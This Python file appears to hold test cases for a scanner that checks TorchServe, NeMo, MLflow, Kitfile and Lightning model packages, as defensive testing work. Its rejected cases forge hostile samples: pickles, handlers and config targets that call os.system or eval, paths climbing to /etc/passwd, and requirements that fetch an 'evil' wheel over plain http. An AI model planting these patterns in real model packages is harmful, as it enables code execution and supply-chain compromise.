"""Models that are packed for a framework: TorchServe, NeMo, MLflow, PyTorch Lightning."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
from collections.abc import Callable, Mapping, Sequence
from typing import Literal

from openvet.testing.case import Case
from openvet.testing.forge import Call, Name, dump
from openvet.testing.forge_export import zipped
from openvet.testing.forge_torch import FakeTensor, state_dict, torch_zip

__all__ = ["CASES"]

_EVIL = Call(Name("os", "system"), ("echo x",))
_STATE = torch_zip(state_dict({"w": FakeTensor((2, 2))}))
_HANDLER = "from ts.torch_handler.base_handler import BaseHandler\n\n\nclass Handler(BaseHandler):\n    def handle(self, data, context):\n        return [1]\n"
_PAYLOAD = "import os\n\n\ndef handle(data, context):\n    os.system('echo x')\n"


def _mar(files: Mapping[str, str | bytes] | None = None, **model: str) -> dict[str, str | bytes]:
    manifest = {"createdOn": "01/01/2026", "runtime": "python", "archiverVersion": "0.11.0",
                "model": {"modelName": "m", "modelVersion": "1.0", "serializedFile": "m.pt", **model}}  # fmt: skip
    return {"m.pt": _STATE, **(files or {}), "MAR-INF/MANIFEST.json": json.dumps(manifest)}


def _tar(members: Sequence[tuple[str, str | bytes]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members:
            raw = data.encode() if isinstance(data, str) else data
            info = tarfile.TarInfo(name)
            info.size = len(raw)
            archive.addfile(info, io.BytesIO(raw))
    return buffer.getvalue()


def _nemo(
    target: str = "nemo.collections.asr.models.EncDecCTCModel", weights: bytes = _STATE
) -> list[tuple[str, str | bytes]]:
    return [
        ("./model_config.yaml", f"sample_rate: 16000\ntarget: {target}\nencoder:\n  _target_: {target}\n"),
        ("./model_weights.ckpt", weights),
    ]


def _kit(path: str = "./model.pt", data: str = "data.csv") -> dict[str, bytes]:
    text = f"manifestVersion: 1.0.0\npackage:\n  name: m\n  version: 1.0.0\nmodel:\n  name: m\n  path: {path}\ndatasets:\n- name: d\n  path: {data}\n"
    return {"Kitfile": text.encode(), "model.pt": _STATE, "data.csv": b"a,b\n1,2\n"}


def _mlflow(
    files: Mapping[str, bytes] | None = None,
    flavor: str = "loader_module: mlflow.sklearn",
    requirements: str = "mlflow==3.1.0\nscikit-learn==1.7.0\n",
) -> dict[str, bytes]:
    model = f"artifact_path: model\nflavors:\n  python_function:\n    {flavor}\n    model_path: model.pkl\n    env:\n      conda: conda.yaml\nmlflow_version: 3.1.0\n"
    conda = "channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=24.0\n- pip:\n  - mlflow==3.1.0\nname: mlflow-env\n"
    estimator = Call(Name("sklearn.linear_model._logistic", "LogisticRegression"), state={"C": 1.0}, how="NEWOBJ")
    return {"MLmodel": model.encode(), "conda.yaml": conda.encode(), "requirements.txt": requirements.encode(),
            "model.pkl": dump(estimator, 4), **(files or {})}  # fmt: skip


def _case(
    word: str, technique: str, forge: Callable[[], bytes | Mapping[str, bytes]], decision: Literal["admit", "review", "reject"],
    *rules: str, name: str = "model.mar", formats: tuple[str, ...] = ("zip", "json"), advisories: tuple[str, ...] = (),
) -> Case:  # fmt: skip
    return Case(f"serving/{word}", technique, forge, decision, frozenset(rules), formats, advisories, name)


_P = "python/process-at-load"
_H, _I, _PY = "serving/handler-code", "serving/installs-packages", "hub/python-code"
_TAR = ("tar", "yaml")
_OUTSIDE = "serving/outside-path"
_PARTS = """target: nemo.collections.asr.models.EncDecCTCModel
tokenizer:
  vocab_path: nemo:vocab.txt
optim:
  _target_: torch.optim.AdamW
  lr: 0.1
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  act:
    _target_: torch.nn.SiLU
trainer:
  callbacks:
  - _target_: pytorch_lightning.callbacks.ModelCheckpoint
  extra:
    _target_: omegaconf.OmegaConf.create
"""
CASES: tuple[Case, ...] = (
    _case("mar-handler", "the handler of a TorchServe archive starts a process when it is called",
          lambda: zipped(_mar({"handler.py": _PAYLOAD}, handler="handler.py")), "reject", _H, _PY, _P),
    _case("mar-handler-function", "the manifest names a function in the handler",
          lambda: zipped(_mar({"service.py": _PAYLOAD}, handler="service:handle")), "reject", _H, _PY, _P),
    _case("mar-model-file", "the model file of a TorchServe archive evaluates text",
          lambda: zipped(_mar({"net.py": "def f(x):\n    return eval(x)\n"}, handler="image_classifier", modelFile="net.py")), "reject", _H, _PY),
    _case("mar-weights", "the weights in a TorchServe archive are a pickle with a payload",
          lambda: zipped(_mar({"m.pt": torch_zip(_EVIL)}, handler="image_classifier")), "reject", "pickle/runs-process"),
    _case("mar-index", "the requirements of a TorchServe archive name another index",
          lambda: zipped(_mar({"requirements.txt": "torch==2.1.0\n--extra-index-url http://example.org/simple\n"}, handler="image_classifier", requirementsFile="requirements.txt")),
          "reject", _I),
    _case("mar-tar-gz", "the archive is a tar that is compressed",
          lambda: gzip.compress(_tar(list(_mar({"handler.py": _PAYLOAD}, handler="handler.py").items())), mtime=0), "reject", _H, _PY, _P, name="model.tar.gz", formats=("gzip", "tar", "json")),
    _case("mar-folder", "the archive is not packed (no-archive)",
          lambda: {name: data if isinstance(data, bytes) else data.encode() for name, data in _mar({"handler.py": _PAYLOAD}, handler="handler.py").items()}, "reject", _H, _PY, _P),
    _case("nemo-target", "the configuration in a NeMo archive makes the loader call os.system",
          lambda: _tar(_nemo("os.system")), "reject", "hub/config-target", name="model.nemo", formats=_TAR, advisories=("CVE-2025-23304",)),
    _case("nemo-weights", "the weights in a NeMo archive are a pickle with a payload",
          lambda: _tar(_nemo(weights=torch_zip(_EVIL))), "reject", "pickle/runs-process", name="model.nemo", formats=_TAR, advisories=("CVE-2026-24157", "CVE-2026-24159")),
    _case("nemo-twice", "a second configuration of the same name comes later in a NeMo archive",
          lambda: _tar([*_nemo(), *_nemo("subprocess.Popen")[:1]]), "reject", "hub/config-target", "archive/duplicate-member", name="model.nemo", formats=_TAR),
    _case("nemo-gz", "a NeMo archive is compressed",
          lambda: gzip.compress(_tar(_nemo("builtins.eval")), mtime=0), "reject", "hub/config-target", name="model.nemo", formats=("gzip", *_TAR)),
    _case("nemo-target-alone", "the class of the model itself is os.system, which NeMo imports without anything beside it",
          lambda: _tar([("./model_config.yaml", "sample_rate: 16000\ntarget: os.system\n"), ("./model_weights.ckpt", _STATE)]),
          "reject", "hub/config-target", name="model.nemo", formats=_TAR, advisories=("CVE-2025-23304",)),
    _case("nemo-other-settings", "settings of another name in a NeMo archive ask for os.system",
          lambda: _tar([*_nemo(), ("./parts/decoder.cfg", "steps:\n- _target_: os.system\n  _args_: [echo x]\n")]),
          "reject", "hub/config-target", name="model.nemo", formats=_TAR, advisories=("CVE-2025-23304",)),
    _case("nemo-artefact", "an artefact of a NeMo archive lies outside of it",
          lambda: _tar([("./model_config.yaml", "tokenizer:\n  model_path: nemo:../../../etc/passwd\n"), ("./model_weights.ckpt", _STATE)]),
          "reject", _OUTSIDE, name="model.nemo", formats=_TAR),
    _case("kitfile-climbs", "a Kitfile takes the model from elsewhere", lambda: _kit("../../../etc/passwd"), "reject", _OUTSIDE, formats=("yaml",)),
    _case("kitfile-part-absolute", "a data set of a Kitfile has an absolute path", lambda: _kit(data="/etc/ssl"), "reject", _OUTSIDE, formats=("yaml",)),
    _case("mlflow-loader", "MLflow is made to import a module of the interpreter as its loader",
          lambda: _mlflow(flavor="loader_module: os"), "review", "hub/config-callable", formats=("yaml",)),
    _case("mlflow-path", "MLflow is made to load a model from outside of its folder",
          lambda: _mlflow(flavor="loader_module: mlflow.sklearn\n    data: ../../../../tmp/model.pkl"), "reject", "serving/outside-path", formats=("yaml",)),
    _case("mlflow-pickle", "python_model.pkl of MLflow has a payload",
          lambda: _mlflow({"python_model.pkl": dump(_EVIL, 4)}, flavor="loader_module: mlflow.pyfunc.model"), "reject", "pickle/runs-process", formats=("yaml", "pickle")),
    _case("mlflow-index", "the environment of MLflow names another index",
          lambda: _mlflow({"conda.yaml": b"dependencies:\n- pip:\n  - --index-url http://example.org/simple\n  - mlflow\n"}), "reject", _I, formats=("yaml",)),
    _case("mlflow-plain-http", "MLflow installs a wheel without encryption",
          lambda: _mlflow(requirements="mlflow==3.1.0\nhttp://example.org/evil-1.0-py3-none-any.whl\n"), "reject", _I, formats=("yaml", "requirements")),
    _case("lightning-callback", "a callback in a checkpoint of Lightning has a payload",
          lambda: torch_zip({"state_dict": state_dict({"w": FakeTensor((2, 2))}), "callbacks": {"ModelCheckpoint": {"best": _EVIL}}}),
          "reject", "pickle/runs-process", name="model.ckpt", formats=("torch-zip",)),
    _case("lightning-hparams", "a hyper-parameter in a checkpoint of Lightning is a partial of os.system",
          lambda: torch_zip({"hyper_parameters": {"f": Call(Call(Name("functools", "partial"), (Name("os", "system"),)), ("echo x",))}}),
          "reject", "pickle/runs-process", name="model.ckpt", formats=("torch-zip",)),
    _case("mar-ordinary-handler", "a TorchServe archive with a handler of its own",
          lambda: zipped(_mar({"handler.py": _HANDLER}, handler="handler.py")), "admit"),
    _case("mar-missing-handler", "the handler of a TorchServe archive is not in it",
          lambda: zipped(_mar(handler="my_handler.py")), "review", _H),
    _case("mlflow-code", "a folder of MLflow puts code of its own on the import path",
          lambda: _mlflow({"code/steps.py": b"def clean(x):\n    return x\n"}, flavor="loader_module: mlflow.sklearn\n    code: code"), "admit", formats=("yaml",)),
    _case("mlflow-repository", "MLflow installs a package from a repository",
          lambda: _mlflow(requirements="mlflow==3.1.0\nsteps @ git+https://github.com/example/steps@v1\n"), "review", _I, formats=("yaml", "requirements")),
    _case("mar-ordinary", "a TorchServe archive with a handler that TorchServe has",
          lambda: zipped(_mar({"index_to_name.json": '{"0": "cat"}'}, handler="image_classifier")), "admit"),
    _case("mar-requirements", "a TorchServe archive with ordinary requirements",
          lambda: zipped(_mar({"requirements.txt": "torch==2.1.0\nnumpy>=1.26 # math\n"}, handler="text_classifier", requirementsFile="requirements.txt")), "admit"),
    _case("nemo-ordinary", "a NeMo archive", lambda: _tar(_nemo()), "admit", name="model.nemo", formats=_TAR),
    _case("nemo-ordinary-parts", "a NeMo archive with artefacts, an optimizer and callbacks",
          lambda: _tar([("./model_config.yaml", _PARTS), ("./vocab.txt", "a\nb\n"), ("./model_weights.ckpt", _STATE)]), "admit", name="model.nemo", formats=_TAR),
    _case("nemo-ordinary-folder", "a NeMo archive with weights in a folder",
          lambda: _tar([*_nemo()[:1], ("./model_weights/common.pt", _STATE), ("./model_weights/metadata.json", '{"sharded_backend": "torch_dist"}')]),
          "admit", name="model.nemo", formats=_TAR),
    _case("kitfile-ordinary", "an ordinary Kitfile", _kit, "admit", formats=("yaml",)),
    _case("settings-ordinary-target", "settings in which a target is no class",
          lambda: {"deploy.yaml": b"target: example.org\nhosts:\n- target: cpu.large\n", "config.json": b'{"model_type": "bert"}'}, "admit", formats=("yaml",)),
    _case("mlflow-ordinary", "a folder of MLflow", _mlflow, "admit", formats=("yaml",)),
    _case("mlflow-pytorch-index", "MLflow installs PyTorch from its own index",
          lambda: _mlflow(requirements="--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.6.0\n"), "admit", formats=("yaml", "requirements")),
    _case("lightning-ordinary", "a checkpoint of Lightning with hyper-parameters and callbacks",
          lambda: torch_zip({"epoch": 3, "global_step": 100, "pytorch-lightning_version": "2.5.0", "state_dict": state_dict({"w": FakeTensor((2, 2))}),
                             "callbacks": {"ModelCheckpoint{'monitor': 'loss'}": {"best_model_path": "a.ckpt"}}, "hyper_parameters": {"lr": 0.1}}),
          "admit", name="model.ckpt", formats=("torch-zip",)),
    _case("plain-list", "a list of words that is no list of packages",
          lambda: {"labels.txt": b"cat\ndog\nmouse\n", "config.json": b'{"model_type": "bert"}'}, "admit", formats=("text",)),
)  # fmt: skip
